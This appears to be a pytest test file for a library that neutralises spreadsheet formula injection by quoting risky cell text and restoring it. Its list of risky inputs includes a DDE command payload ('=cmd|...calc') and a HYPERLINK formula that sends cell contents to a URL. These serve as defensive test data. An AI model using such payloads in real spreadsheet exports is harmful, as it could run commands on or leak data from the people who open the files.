"""Formula injection: neutralised for spreadsheets, restored exactly."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vendoreval.safe_text import is_risky, neutralise, restore

RISKY = [
    "=1+1",
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "+49 30 123",
    "-",
    "  =1",
    "\ufeff=1",
    "\u200b=1",
]
PLAIN = ["", "abc", "-5.2", "+3", "1e5", "-1E-3", "12", "a=b", "2026-01-01", "é", "“quoted”", " x"]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_stay(text: str) -> None:
    assert neutralise(text) == text


def test_an_apostrophe_of_its_own_survives() -> None:
    assert neutralise("'quoted'") == "''quoted'"
    assert restore("''quoted'") == "'quoted'"


@given(st.text() | st.sampled_from(RISKY + PLAIN))
def test_round_trip(text: str) -> None:
    safe = neutralise(text)
    assert restore(safe) == text
    assert not is_risky(safe)
